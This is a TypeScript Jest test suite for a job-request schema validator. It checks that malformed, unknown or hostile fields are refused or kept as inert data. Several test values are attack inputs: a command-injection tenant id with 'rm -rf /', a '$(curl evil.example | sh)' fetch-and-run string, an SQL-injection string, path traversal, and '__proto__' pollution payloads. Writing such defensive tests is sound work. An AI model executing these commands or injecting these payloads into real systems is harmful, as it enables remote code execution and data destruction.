import { jobRequestSchema, parseJobRequest } from './request';

const minimal = { tenantId: 'enterprise-001', jobType: 'data-etl' };

function messageOf(body: unknown): string {
  const result = parseJobRequest(body);
  if (result.success) {
    throw new Error('expected a refusal');
  }
  return result.message;
}

describe('jobRequestSchema', () => {
  it('accepts a minimal request and fills in defaults', () => {
    const result = parseJobRequest(minimal);
    expect(result).toEqual({
      success: true,
      request: {
        tenantId: 'enterprise-001',
        jobType: 'data-etl',
        priority: 'normal',
        parameters: {},
        dryRun: false,
      },
    });
  });

  it('accepts a complete request', () => {
    const body = {
      tenantId: 'enterprise-001',
      jobType: 'ml-training',
      tier: 'xlarge',
      priority: 'batch',
      parameters: { model: 'recommender', epochs: 5, tags: ['a'] },
      entityRef: 'Component:Default/Billing-Service',
      idempotencyKey: 'scaffolder:task-1234:step-2',
      dryRun: true,
    };
    expect(jobRequestSchema.parse(body)).toEqual({
      ...body,
      // kind and namespace lower-cased like stringifyEntityRef does
      entityRef: 'component:default/Billing-Service',
    });
  });

  it('refuses unknown fields and names the allowed ones', () => {
    expect(messageOf({ ...minimal, schedule: '* * * * *' })).toBe(
      'schedule: unknown field; allowed fields are tenantId, jobType, tier, priority, parameters, entityRef, idempotencyKey, dryRun',
    );
  });

  it('refuses a request for secrets by reference from the client', () => {
    expect(messageOf({ ...minimal, secretRefs: ['db'] })).toContain(
      'secretRefs: unknown field',
    );
  });

  it.each([
    ['Enterprise-001'],
    ['enterprise_001'],
    ['-enterprise'],
    ['enterprise-'],
    ['a'.repeat(41)],
    [''],
    ['tenant; rm -rf /'],
  ])('refuses tenant id %j', tenantId => {
    expect(messageOf({ ...minimal, tenantId })).toMatch(
      /^tenantId: must be a DNS-1123 label: lowercase letters, digits and '-', starting and ending with a letter or digit, at most 40 characters \(got '.*'\)$/,
    );
  });

  it('accepts a 40-character tenant id', () => {
    expect(
      parseJobRequest({ ...minimal, tenantId: 'a'.repeat(40) }).success,
    ).toBe(true);
  });

  it('names missing fields', () => {
    expect(messageOf({})).toBe('tenantId: is required; jobType: is required');
  });

  it('refuses a tier that does not exist', () => {
    expect(messageOf({ ...minimal, tier: 'huge' })).toBe(
      "tier: must be one of micro, small, medium, large, xlarge, enterprise (got 'huge')",
    );
    expect(messageOf({ ...minimal, tier: 3 })).toBe(
      'tier: must be one of micro, small, medium, large, xlarge, enterprise (got 3)',
    );
  });

  it('refuses a priority that does not exist', () => {
    expect(messageOf({ ...minimal, priority: 'urgent' })).toBe(
      "priority: must be one of critical, high, normal, low, batch (got 'urgent')",
    );
  });

  it('refuses a bad job type id', () => {
    expect(messageOf({ ...minimal, jobType: '../etc' })).toBe(
      "jobType: must be a job type id: lowercase letters, digits and '-', at most 63 characters (got '../etc')",
    );
  });

  it('refuses parameters that are not an object', () => {
    expect(messageOf({ ...minimal, parameters: [1] })).toBe(
      'parameters: must be an object of parameter values (got an array)',
    );
    expect(messageOf({ ...minimal, parameters: 'x=1' })).toBe(
      "parameters: must be an object of parameter values (got 'x=1')",
    );
  });

  it('refuses odd parameter names', () => {
    expect(messageOf({ ...minimal, parameters: { __proto__x: 1 } })).toContain(
      'parameters.__proto__x: parameter names are letters and digits',
    );
    expect(messageOf({ ...minimal, parameters: { 'a-b': 1 } })).toContain(
      'parameters.a-b: parameter names',
    );
  });

  it('refuses a __proto__ key, which zod would drop silently', () => {
    // JSON.parse makes own __proto__ properties, as a request body would.
    const inParameters = JSON.parse(
      '{"tenantId":"enterprise-001","jobType":"data-etl","parameters":{"__proto__":{"polluted":"yes"},"source":"events-db"}}',
    );
    expect(messageOf(inParameters)).toBe(
      'parameters.__proto__: parameter names are letters and digits, starting with a letter, at most 63 characters',
    );
    const onTop = JSON.parse(
      '{"__proto__":{"polluted":"yes"},"tenantId":"enterprise-001","jobType":"data-etl"}',
    );
    expect(messageOf(onTop)).toBe(
      '__proto__: unknown field; allowed fields are tenantId, jobType, tier, priority, parameters, entityRef, idempotencyKey, dryRun',
    );
    expect(
      messageOf(
        JSON.parse(
          '{"tenantId":"Bad_Id","jobType":"data-etl","parameters":{"__proto__":1}}',
        ),
      ),
    ).toMatch(/^tenantId: .*; parameters\.__proto__: parameter names/);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('bounds the parameters', () => {
    const many = Object.fromEntries(
      Array.from({ length: 65 }, (_, i) => [`p${i}`, i]),
    );
    expect(messageOf({ ...minimal, parameters: many })).toBe(
      'parameters: must have at most 64 parameters (got an object)',
    );
    expect(
      messageOf({ ...minimal, parameters: { big: 'x'.repeat(17000) } }),
    ).toBe('parameters: must be at most 16384 bytes as JSON (got an object)');
  });

  it('keeps shell metacharacters in parameters as plain data', () => {
    const parameters = {
      source: '$(curl evil.example | sh); `id` && rm -rf / || true > /etc/x',
      destination: "'; DROP TABLE runs; --",
    };
    const result = parseJobRequest({ ...minimal, parameters });
    expect(result.success && result.request.parameters).toEqual(parameters);
  });

  it('refuses entity refs that are not complete', () => {
    expect(messageOf({ ...minimal, entityRef: 'billing-service' })).toBe(
      "entityRef: must be a complete catalog entity ref kind:namespace/name, e.g. component:default/my-service (got 'billing-service')",
    );
    expect(messageOf({ ...minimal, entityRef: 42 })).toBe(
      'entityRef: must be a string (got 42)',
    );
  });

  it('bounds idempotency keys', () => {
    expect(
      parseJobRequest({ ...minimal, idempotencyKey: 'k'.repeat(128) }).success,
    ).toBe(true);
    expect(messageOf({ ...minimal, idempotencyKey: 'k'.repeat(129) })).toMatch(
      /^idempotencyKey: must be 1 to 128 letters/,
    );
    expect(messageOf({ ...minimal, idempotencyKey: 'a b' })).toMatch(
      /^idempotencyKey: must be 1 to 128/,
    );
  });

  it('refuses a non-boolean dryRun', () => {
    expect(messageOf({ ...minimal, dryRun: 'yes' })).toBe(
      "dryRun: must be true or false (got 'yes')",
    );
  });

  it('refuses a body that is not an object', () => {
    expect(messageOf([])).toBe(
      'request body: must be a JSON object (got an array)',
    );
    expect(messageOf('hi')).toBe(
      "request body: must be a JSON object (got 'hi')",
    );
    expect(messageOf(null)).toBe(
      'request body: must be a JSON object (got null)',
    );
    expect(messageOf(undefined)).toBe(
      'request body: a JSON object is required',
    );
  });

  it('reports every problem with its path', () => {
    expect(
      parseJobRequest({
        tenantId: 'X',
        jobType: 'data-etl',
        tier: 'huge',
        extra: 1,
        other: 2,
      }),
    ).toMatchObject({
      success: false,
      problems: [
        { path: 'tenantId' },
        { path: 'tier' },
        { path: 'extra' },
        { path: 'other' },
      ],
    });
  });
});
